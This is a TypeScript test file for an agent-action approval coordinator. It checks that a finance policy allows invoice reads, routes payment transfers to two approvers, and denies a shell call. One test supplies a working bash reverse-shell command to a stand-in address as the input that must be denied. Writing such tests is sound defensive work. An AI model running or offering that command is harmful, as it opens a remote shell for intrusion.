// Real policies in front of the real coordinator: what the documents say is what a proposal is answered.
import assert from 'node:assert/strict';
import { generateKeyPairSync, randomUUID, sign } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import {
  activatePolicy,
  type Context,
  createContext,
  evaluateAndOpen,
  listInbox,
} from '@countersign/coordinator';
import { loadPolicy, PoliciesInForce, type PolicyFile } from '@countersign/policy';
import { assembleJws, importPublicKey, jwsSigningInput } from '@countersign/protocol/crypto';
import type { JsonObject } from '@countersign/protocol/json';
import {
  authenticated,
  idFromUuid,
  PersonId,
  timestampFromMilliseconds,
} from '@countersign/protocol/value';
import { loadGrammars, type RiskSettings, riskAssessor } from '@countersign/risk';
import { openSqliteStore } from '@countersign/store-sqlite';

const folder = mkdtempSync(join(tmpdir(), 'countersign-policy-'));
after(() => rmSync(folder, { recursive: true, force: true }));

const grammar = await loadGrammars();
const inputs = { assessor: (settings: RiskSettings) => riskAssessor({ settings, grammar }) };
const finance = fileURLToPath(import.meta.resolve('@countersign/policy/starters/finance.yaml'));
const files: readonly PolicyFile[] = [
  { name: 'finance.yaml', text: readFileSync(finance, 'utf8'), layer: 'operator' },
];

const { privateKey, publicKey } = generateKeyPairSync('ed25519');
const { kty, crv, x } = publicKey.export({ format: 'jwk' });
const keys = new Map([['key-1', importPublicKey({ kty, crv, x })]]);
const people = [1, 2, 3].map(() => idFromUuid(PersonId, 'person', randomUUID()));

async function start(): Promise<{ context: Context; policies: PoliciesInForce }> {
  const clock = {
    now: () => timestampFromMilliseconds(Date.now()),
    pause: () => Promise.resolve(),
  };
  const ids = { uuid: () => randomUUID() };
  const loaded = loadPolicy(files, inputs);
  assert.ok(loaded.ok);
  const policies = new PoliciesInForce(loaded.policy, inputs);
  const context = createContext({
    store: await openSqliteStore({ path: join(folder, `${randomUUID()}.db`), clock, ids }),
    clock,
    ids,
    policies,
    people: {
      directory: async () =>
        people.map(identity => ({
          kind: 'human' as const,
          identity,
          roles: ['finance'],
          assurance: 'webauthn' as const,
        })),
      parties: async () => ({ requester: null, subject: null, agent_owner: null }),
      passkeyTrust: async () => ({
        origin: 'http://localhost:8080',
        rp_id: 'localhost',
        passkeys: [],
      }),
    },
    signer: {
      issuer: 'test',
      keys: () => keys,
      sign: async (typ, payload) => {
        const input = jwsSigningInput({ kid: 'key-1', typ, payload: payload as JsonObject });
        return assembleJws(input, sign(null, Buffer.from(input), privateKey));
      },
    },
    notifier: { committed: () => undefined },
    anchor: null,
  });
  assert.ok((await activatePolicy(context)).ok);
  return { context, policies };
}

function propose(context: Context, tool_name: string, parameters: JsonObject) {
  return evaluateAndOpen(context, {
    action: {
      schema_version: '1.0',
      operation: 'tool.invoke',
      agent_id: 'billing-bot',
      target: { tool_name, tool_schema_version: '1' },
      parameters,
    },
    principal: authenticated({ kind: 'agent', principal_id: 'key-billing-bot', roles: [] }),
    audience: 'billing-executor',
  });
}

test('a starter policy allows, asks two people and denies', async () => {
  const { context } = await start();
  const read = await propose(context, 'invoices.get', { id: 'in_7' });
  assert.equal(read.ok && read.value.verdict, 'allow');

  const transfer = await propose(context, 'payments.transfer', { to: 'Müller', amount: 4200 });
  assert.ok(transfer.ok && transfer.value.verdict === 'require_approval');
  const { request, chain } = transfer.value.state;
  assert.equal(chain.stages[0]?.quorum, 2);
  assert.equal(request.route.kind, 'admin_channel');
  assert.ok(request.risk.signals.some(({ signal }) => signal === 'money_leaving'));

  const shell = await propose(context, 'shell', {
    command: 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1',
  });
  assert.equal(shell.ok && shell.value.verdict, 'deny');
  const inbox = await listInbox(context, { limit: 10 });
  assert.equal(inbox.ok && inbox.value.rows.length, 1, 'only the transfer was asked');
  await context.store.close();
});

test('[GT-1] files with a problem never replace a policy, and a policy that is not in force yet denies', async () => {
  const { context, policies } = await start();
  const version = policies.version();
  const broken = policies.replace([{ name: 'x.yaml', text: 'version: [', layer: 'operator' }]);
  assert.equal(broken.ok, false);
  assert.equal(policies.version(), version);
  assert.ok((await propose(context, 'invoices.get', { id: 'in_7' })).ok);

  const stricter = 'version: "2"\nrules:\n  - { id: none, match: { tool: "*" }, outcome: deny }\n';
  assert.ok(policies.replace([...files, { name: 'y.yaml', text: stricter, layer: 'system' }]).ok);
  const early = await propose(context, 'invoices.get', { id: 'in_7' });
  assert.equal(early.ok ? 'ok' : early.refusal.code, 'policy_unavailable');

  assert.ok((await activatePolicy(context)).ok);
  const now = await propose(context, 'invoices.get', { id: 'in_7' });
  assert.equal(now.ok && now.value.verdict, 'deny');
  await context.store.close();
});
